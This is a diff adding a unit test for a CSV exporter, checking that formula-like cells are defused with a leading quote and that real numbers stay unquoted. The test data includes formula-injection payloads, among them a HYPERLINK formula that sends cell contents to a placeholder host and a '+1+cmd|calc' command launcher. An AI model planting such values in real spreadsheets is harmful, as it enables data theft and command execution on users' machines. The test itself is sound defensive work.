@@ -39,3 +39,15 @@ test('CSV quotes what needs quoting and keeps full precision', () => {
   const csv = toCsv([{ a: 'x,y', b: 'say "hi"', c: 1 / 3, d: null }, { a: 'line\nbreak', b: '', c: NaN, d: 2 }]);
   assert.equal(csv, 'a,b,c,d\r\n"x,y","say ""hi""",0.3333333333333333,\r\n"line\nbreak",,,2\r\n');
 });
+
+test('toCsvTable defuses formula cells (OWASP: leading quote, quoted) and leaves numbers as numbers', () => {
+  const csv = toCsv([
+    { a: '=HYPERLINK("http://x/?"&A1,"click")', b: '+1+cmd|calc', c: '-2+3', d: '@SUM(A1)' },
+    { a: -1.5, b: '-1.5', c: '\t=1', d: ' =1' },
+    { a: 'plain', b: 'a=b', c: '+3', d: '2e-4' },
+  ]);
+  const lines = csv.split('\r\n');
+  assert.equal(lines[1], `"'=HYPERLINK(""http://x/?""&A1,""click"")","'+1+cmd|calc","'-2+3","'@SUM(A1)"`);
+  assert.equal(lines[2], `-1.5,-1.5,"'\t=1","' =1"`);
+  assert.equal(lines[3], 'plain,a=b,+3,2e-4');
+});
